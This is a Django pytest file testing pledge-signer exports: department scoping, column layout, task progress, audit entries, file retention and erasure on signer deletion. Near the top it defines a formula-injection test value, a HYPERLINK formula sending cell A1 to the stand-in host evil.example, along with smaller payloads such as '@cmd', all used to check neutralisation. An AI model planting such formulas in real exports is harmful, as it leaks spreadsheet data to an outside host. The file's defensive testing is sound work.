"""Exports: scope, columns, formula neutralisation (CSV and XLSX), the task and its progress, audit,
retention and erasure."""

import csv
import io
import os
from datetime import timedelta
from unittest import mock

import pytest
from django.db import transaction
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from deconv.csvsafe import csv_safe
from deconv.models import AuditEntry
from pledges import exports
from pledges.access import OrganizerScope
from pledges.enums import BundleStatus
from pledges.exports import export_build, export_request, exports_forget_signer, exports_purge_expired
from pledges.models import ExportJob
from pledges.tasks import export_build_task
from tests.organizer.conftest import LEAKY_NAME
from tests.organizer.factories import PledgeFactory
from tests.pledges.factories import CampaignFactory, LetterVersionFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'


def scope_of(*codes, national=False):
    return OrganizerScope(national=national, department_codes=frozenset(codes), can_act=True)


def build(campaign, user, *, scope, file_format="csv"):
    with mock.patch.object(export_build_task, "delay"):
        job = export_request(campaign=campaign, scope=scope, user=user, file_format=file_format)
    assert export_build(export_id=job.pk) == BundleStatus.DONE
    job.refresh_from_db()
    return job


def read_csv(job) -> list[list[str]]:
    text = exports.export_path(job).read_text(encoding="utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def read_xlsx(job) -> list[list[str]]:
    sheet = load_workbook(exports.export_path(job), read_only=True).active
    return [[cell if cell is not None else "" for cell in row] for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6", "'+33 6"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Dupont", "Dupont"),
        ("Jean-Pierre", "Jean-Pierre"),
        (None, ""),
        (42, "42"),
    ],
)
def test_csv_safe_neutralises_what_a_spreadsheet_would_run(value, safe):
    assert csv_safe(value) == safe


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_formula_in_a_name_comes_out_as_text(campaign, delegate_69, file_format):
    PledgeFactory(campaign=campaign, department="69", last_name=FORMULA, first_name="@cmd", city="-Lyon")
    job = build(campaign, delegate_69, scope=scope_of("69"), file_format=file_format)
    rows = read_csv(job) if file_format == "csv" else read_xlsx(job)
    assert rows[1][1] == "'" + FORMULA
    assert rows[1][2] == "'@cmd"
    assert rows[1][8] == "'-Lyon"


def test_xlsx_cells_are_strings_not_formulas(campaign, delegate_69):
    PledgeFactory(campaign=campaign, department="69", last_name=FORMULA)
    job = build(campaign, delegate_69, scope=scope_of("69"), file_format="xlsx")
    sheet = load_workbook(exports.export_path(job)).active
    cell = sheet.cell(row=2, column=2)
    assert cell.data_type == "s"
    assert cell.value == "'" + FORMULA


def test_a_delegate_export_holds_only_their_department(campaign, pledges, delegate_69):
    job = build(campaign, delegate_69, scope=scope_of("69"))
    rows = read_csv(job)
    assert len(rows) == 1 + 7
    assert {row[6] for row in rows[1:]} == {"69"}
    assert LEAKY_NAME not in exports.export_path(job).read_text(encoding="utf-8-sig")
    assert job.progress_done == job.progress_total == 7


def test_the_columns_and_labels_of_an_export(campaign, delegate_69, settings):
    PledgeFactory(
        campaign=campaign, department="69", rpps="10000000008", last_name="Martin", first_name="Léa"
    )
    job = build(campaign, delegate_69, scope=scope_of("69"))
    header, row = read_csv(job)
    assert len(header) == 14
    assert row[:3] == ["10000000008", "Martin", "Léa"]
    assert row[6:9] == ["69", "69001", "Lyon"]
    assert row[13][:4].isdigit() and len(row[13]) == 16  # YYYY-MM-DD HH:MM


def test_only_national_exports_have_ip_and_browser(campaign, national, delegate_69):
    PledgeFactory(
        campaign=campaign, department="69", signed_ip="203.0.113.9", signed_user_agent="Firefox/140"
    )
    national_rows = read_csv(build(campaign, national, scope=scope_of(national=True)))
    delegate_rows = read_csv(build(campaign, delegate_69, scope=scope_of("69")))
    assert len(national_rows[0]) == 16
    assert national_rows[1][14:] == ["203.0.113.9", "Firefox/140"]
    assert len(delegate_rows[0]) == 14
    assert all("203.0.113.9" not in row for row in delegate_rows)


def test_progress_is_written_as_the_rows_go(campaign, delegate_69, monkeypatch):
    monkeypatch.setattr(exports, "PROGRESS_EVERY", 2)
    PledgeFactory.create_batch(5, campaign=campaign, department="69")
    seen = []
    original = exports._progress
    monkeypatch.setattr(
        exports, "_progress", lambda job_id, done: (seen.append(done), original(job_id, done))
    )
    job = build(campaign, delegate_69, scope=scope_of("69"))
    assert seen == [2, 4]
    assert (job.status, job.progress_done, job.progress_total) == ("done", 5, 5)
    assert job.finished_at is not None


def test_the_task_builds_once_even_when_delivered_twice(campaign, pledges, delegate_69):
    with mock.patch.object(export_build_task, "delay"):
        job = export_request(campaign=campaign, scope=scope_of("69"), user=delegate_69, file_format="csv")
    assert export_build_task(job.pk) == "done"
    job.refresh_from_db()
    first_file = job.file_name
    assert export_build_task(job.pk) == "done"
    job.refresh_from_db()
    assert job.file_name == first_file
    assert len(list(exports.exports_dir().iterdir())) == 1


def test_a_failed_export_keeps_no_partial_file(campaign, pledges, delegate_69, monkeypatch):
    def broken(**kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(exports, "_write_csv", broken)
    with mock.patch.object(export_build_task, "delay"):
        job = export_request(campaign=campaign, scope=scope_of("69"), user=delegate_69, file_format="csv")
    assert export_build(export_id=job.pk) == "failed"
    job.refresh_from_db()
    assert (job.status, job.error, job.file_name) == ("failed", "OSError", "")
    assert not any(exports.exports_dir().iterdir())


def test_requesting_an_export_through_the_page_queues_the_task_and_audits(
    client, campaign, pledges, delegate_69, django_capture_on_commit_callbacks
):
    client.force_login(delegate_69)
    with (
        mock.patch.object(export_build_task, "delay") as delay,
        django_capture_on_commit_callbacks(execute=True),
    ):
        response = client.post(
            reverse("pledges:organizer_exports", kwargs={"slug": campaign.slug}), {"format": "xlsx"}
        )
    job = ExportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse(
        "pledges:organizer_export_detail", kwargs={"slug": campaign.slug, "export_id": job.pk}
    )
    delay.assert_called_once_with(job.pk)
    assert job.scope["department_codes"] == ["69"] and job.scope["national"] is False
    entry = AuditEntry.objects.get(action="pledges.export_request")
    assert (entry.actor, entry.campaign_id, entry.territory_code) == (delegate_69, campaign.pk, "69")


def test_an_unknown_format_is_refused_without_a_job(client, campaign, delegate_69):
    client.force_login(delegate_69)
    response = client.post(
        reverse("pledges:organizer_exports", kwargs={"slug": campaign.slug}), {"format": "exe"}
    )
    assert response.status_code == 400
    assert not ExportJob.objects.exists()


def test_the_progress_page_status_and_download(client, campaign, pledges, delegate_69):
    client.force_login(delegate_69)
    with mock.patch.object(export_build_task, "delay"):
        job = export_request(campaign=campaign, scope=scope_of("69"), user=delegate_69, file_format="csv")
    kwargs = {"slug": campaign.slug, "export_id": job.pk}
    status_url = reverse("pledges:organizer_export_status", kwargs=kwargs)
    download_url = reverse("pledges:organizer_export_download", kwargs=kwargs)

    queued = client.get(status_url).json()
    assert (queued["status"], queued["percent"], queued["download_url"]) == ("queued", 0, None)
    assert client.get(download_url).status_code == 404
    page = client.get(reverse("pledges:organizer_export_detail", kwargs=kwargs)).content.decode()
    assert f'data-progress-url="{status_url}"' in page
    assert "<progress" in page

    export_build(export_id=job.pk)
    done = client.get(status_url).json()
    assert done == {
        "status": "done",
        "status_label": done["status_label"],
        "done": 7,
        "total": 7,
        "percent": 100,
        "download_url": download_url,
    }
    response = client.get(download_url)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="tour-de-france-')
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert body.count("\n") == 8
    assert LEAKY_NAME not in body
    assert AuditEntry.objects.filter(action="pledges.export_download", object_id=str(job.pk)).count() == 1


# --- Retention and erasure ----------------------------------------------------------------------


def test_the_retention_is_72_hours_unless_configured(settings):
    if hasattr(settings, "EXPORT_RETENTION_HOURS"):
        del settings.EXPORT_RETENTION_HOURS
    assert exports.export_retention() == timedelta(hours=72)
    settings.EXPORT_RETENTION_HOURS = 5
    assert exports.export_retention() == timedelta(hours=5)


def test_export_files_past_their_retention_are_deleted_and_the_pages_say_so(
    client, campaign, pledges, delegate_69, settings
):
    settings.EXPORT_RETENTION_HOURS = 2
    job = build(campaign, delegate_69, scope=scope_of("69"))
    path = exports.export_path(job)
    kwargs = {"slug": campaign.slug, "export_id": job.pk}

    assert exports_purge_expired(now=timezone.now() + timedelta(hours=1)) == 0
    assert path.is_file()

    assert exports_purge_expired(now=timezone.now() + timedelta(hours=3)) == 1
    job.refresh_from_db()
    assert not path.exists()
    assert (job.status, job.file_name, job.progress_total) == ("done", "", 7)
    client.force_login(delegate_69)
    page = client.get(reverse("pledges:organizer_export_detail", kwargs=kwargs)).content.decode()
    assert "Ce fichier a été supprimé." in page
    assert "data-progress-url" not in page and "Download the file" not in page
    listing = client.get(
        reverse("pledges:organizer_exports", kwargs={"slug": campaign.slug})
    ).content.decode()
    assert reverse("pledges:organizer_export_download", kwargs=kwargs) not in listing
    assert client.get(reverse("pledges:organizer_export_download", kwargs=kwargs)).status_code == 404
    assert AuditEntry.objects.filter(action="pledges.export_request", object_id=str(job.pk)).exists()


def test_the_purge_deletes_what_dead_runs_left_but_not_a_file_being_written(settings, campaign, delegate_69):
    settings.EXPORT_RETENTION_HOURS = 2
    folder = exports.exports_dir()
    folder.mkdir(parents=True)
    old = folder / ".export-41.part"
    old.write_text(LEAKY_NAME)
    writing = folder / ".export-42.part"
    writing.write_text(LEAKY_NAME)
    three_hours_ago = (timezone.now() - timedelta(hours=3)).timestamp()
    os.utime(old, (three_hours_ago, three_hours_ago))

    assert exports_purge_expired() == 1
    assert not old.exists() and writing.exists()


def _exports_of(campaign, user, count=2):
    return [build(campaign, user, scope=scope_of(national=True)) for _ in range(count)]


def test_erasing_a_signer_deletes_every_export_of_their_campaigns_when_the_erasure_commits(
    campaign, pledges, national, django_capture_on_commit_callbacks
):
    other_campaign = CampaignFactory(slug="autre")
    LetterVersionFactory(campaign=other_campaign)
    PledgeFactory(campaign=other_campaign, department="69")
    named = _exports_of(campaign, national)
    kept = _exports_of(other_campaign, national, count=1)
    with mock.patch.object(export_build_task, "delay"):
        waiting = export_request(campaign=campaign, scope=scope_of("69"), user=national, file_format="csv")
    paths = [exports.export_path(job) for job in named]

    with django_capture_on_commit_callbacks(execute=False) as callbacks, transaction.atomic():
        assert exports_forget_signer(campaign_ids=[campaign.pk]) == 2
    assert all(path.exists() for path in paths), "nothing leaves the disk before the commit"
    for callback in callbacks:
        callback()

    assert not any(path.exists() for path in paths)
    assert [job.file_name for job in ExportJob.objects.filter(pk__in=[job.pk for job in named])] == ["", ""]
    assert exports.export_path(ExportJob.objects.get(pk=kept[0].pk)).is_file()
    waiting.refresh_from_db()
    assert waiting.status == BundleStatus.QUEUED, "an export not started reads the data after the erasure"


def test_an_export_being_written_when_a_signer_is_erased_is_failed_and_its_file_deleted(
    client, campaign, pledges, delegate_69, monkeypatch, django_capture_on_commit_callbacks
):
    original = exports._write_csv

    def erasure_meanwhile(**kwargs):
        written = original(**kwargs)
        exports_forget_signer(campaign_ids=[campaign.pk])
        return written

    monkeypatch.setattr(exports, "_write_csv", erasure_meanwhile)
    with mock.patch.object(export_build_task, "delay"):
        job = export_request(campaign=campaign, scope=scope_of("69"), user=delegate_69, file_format="csv")

    with django_capture_on_commit_callbacks(execute=True):
        assert export_build(export_id=job.pk) == BundleStatus.FAILED

    job.refresh_from_db()
    assert (job.status, job.error, job.file_name) == ("failed", exports.SIGNER_ERASED, "")
    assert not any(exports.exports_dir().iterdir())
    client.force_login(delegate_69)
    page = client.get(
        reverse("pledges:organizer_export_detail", kwargs={"slug": campaign.slug, "export_id": job.pk})
    ).content.decode()
    assert "un signataire qu'il aurait contenu a supprimé son compte" in page
